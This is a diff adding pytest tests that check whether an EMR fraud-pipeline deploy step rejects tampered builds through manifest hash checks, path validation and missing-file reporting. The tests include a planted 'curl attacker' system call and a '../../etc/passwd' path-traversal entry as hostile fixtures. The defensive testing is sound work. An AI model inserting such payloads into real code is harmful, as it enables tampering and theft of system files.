@@ -178,3 +178,61 @@ def test_the_run_outcome_is_published_to_sns(aws, aws_endpoint, built, capsys):
     assert message["Subject"] == f"Fraud pipeline on EMR failed ({cluster_id})"
     assert re.search(r"fraud build_features \(s-\w+\): FAILED", message["Message"])
     assert re.search(r"fraud publish \(s-\w+\): CANCELLED", message["Message"])
+
+
+def _copy_of(built, tmp_path):
+    import shutil
+
+    copy = tmp_path / "emr"
+    shutil.copytree(built, copy)
+    return copy
+
+
+def _uploaded(aws, prefix: str) -> list[str]:
+    return [o["Key"] for o in aws["s3"].list_objects_v2(Bucket=ARTIFACTS, Prefix=prefix).get("Contents", [])]
+
+
+def test_deploy_uploads_nothing_when_a_file_differs_from_the_manifest(aws, aws_endpoint, built, tmp_path):
+    from emr.runner import DeployError
+
+    copy = _copy_of(built, tmp_path)
+    (copy / "entrypoints" / "score.py").write_text("import os; os.system('curl attacker')\n")
+    pipeline, _ = _pipeline(aws, aws_endpoint, "emr.prefix=tampered")
+    with pytest.raises(DeployError, match=r"entrypoints/score.py: sha256 differs from the manifest's"):
+        pipeline.deploy(copy)
+    assert _uploaded(aws, "tampered/") == []
+
+
+def test_deploy_refuses_a_manifest_that_names_a_file_outside_the_build(aws, aws_endpoint, built, tmp_path):
+    from emr.runner import DeployError
+
+    copy = _copy_of(built, tmp_path)
+    manifest = json.loads((copy / layout.MANIFEST).read_text())
+    manifest["files"]["../../etc/passwd"] = "0" * 64
+    (copy / layout.MANIFEST).write_text(json.dumps(manifest))
+    pipeline, _ = _pipeline(aws, aws_endpoint, "emr.prefix=outside")
+    with pytest.raises(DeployError, match="'../../etc/passwd': not a file name inside the build folder"):
+        pipeline.deploy(copy)
+    assert _uploaded(aws, "outside/") == []
+
+
+def test_fraud_emr_deploy_reports_a_missing_file(aws_endpoint, built, tmp_path, capsys):
+    copy = _copy_of(built, tmp_path)
+    (copy / layout.BOOTSTRAP).unlink()
+    argv = ["deploy", "--config", str(CONF_DIR / "emr.yaml"), "--build-dir", str(copy)]
+    for item in emr_overrides(aws_endpoint, "emr.prefix=missing"):
+        argv += ["--set", item]
+    assert emr_cli.main(argv) == 1
+    assert f"{layout.BOOTSTRAP}: missing" in capsys.readouterr().err
+
+
+def test_deploy_refuses_a_packed_environment_that_is_not_the_built_one(aws, aws_endpoint, built, tmp_path):
+    from emr.runner import DeployError
+
+    copy = _copy_of(built, tmp_path)
+    manifest = json.loads((copy / layout.MANIFEST).read_text())
+    (copy / layout.MANIFEST).write_text(json.dumps({**manifest, "environment_sha256": "0" * 64}))
+    pipeline, _ = _pipeline(aws, aws_endpoint, "emr.prefix=other-env")
+    with pytest.raises(DeployError, match="environment.tar.gz: sha256 differs"):
+        pipeline.deploy(copy)
+    assert _uploaded(aws, "other-env/") == []
